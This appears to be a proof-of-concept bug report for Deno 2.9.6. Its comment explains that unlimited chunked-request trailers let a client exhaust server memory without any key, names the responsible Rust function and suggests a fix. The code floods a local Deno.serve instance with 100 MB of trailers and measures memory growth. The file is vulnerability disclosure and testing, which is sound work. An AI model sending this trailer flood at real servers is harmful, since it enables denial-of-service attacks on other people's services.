/**
 * The trailers of a chunked request body have no limit.
 *
 * Once a body's last chunk has come, `Deno.serve` looks for the end of its trailers in the first 64
 * KiB of what it has, and as long as there is none in these, reads on and keeps everything: a client
 * fills the memory of the process as fast as it can send, without any key. What reads the body only
 * sees that nothing comes. With a reader that brings a smaller buffer, the line in front of a chunk
 * has no limit either.
 *
 * Expected: the body fails, as it does where trailers of less than 64 KiB are malformed, and the
 * client is answered 400.
 *
 * Printed by Deno 2.9.6:
 *
 * ```text
 * 100 MB of trailers take more than 50 MB of memory: true
 * ```
 *
 * Where: `libs/http_h1/conn.rs`, `poll_read_body_chunk_limited_inner` gives the parser
 * `buffered[..limit]`, the limit being the reader's, so that `MAX_TRAILER_BYTES` (64 KiB) and
 * `MAX_CHUNK_LINE_BYTES` in `protocol.rs` are reached only where the limit is larger than they are.
 *
 * Suggested fix: Give the parser all there is, and limit the piece that is handed out.
 *
 * What claude-proxy does: It asks for 4 KiB at least, which is enough for the line in front of a
 * chunk. Against trailers there is only `memory_limit`.
 */

const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
  for await (const _ of request.body ?? []);
  return new Response();
});

const FLOODER = `
  self.onmessage = async ({ data: port }) => {
    const encoder = new TextEncoder();
    const client = await Deno.connect({ hostname: "127.0.0.1", port });
    const writer = client.writable.getWriter();
    const head = "POST / HTTP/1.1\\r\\nHost: a\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n";
    await writer.write(encoder.encode(head));
    await new Promise((later) => setTimeout(later, 100));
    await writer.write(encoder.encode("1\\r\\nx\\r\\n0\\r\\n"));
    const trailers = encoder.encode("a: b\\r\\n".repeat(100_000));
    for (let sent = 0; sent < 100e6; sent += trailers.length) await writer.write(trailers);
    self.postMessage("sent");
  };
`;

const url = "data:application/javascript," + encodeURIComponent(FLOODER);
const flooder = new Worker(url, { type: "module" });
const before = Deno.memoryUsage().rss;
flooder.postMessage(server.addr.port);
await new Promise((sent) => flooder.onmessage = sent);
const grown = Deno.memoryUsage().rss - before;
console.log("100 MB of trailers take more than 50 MB of memory:", grown > 50e6);
Deno.exit();
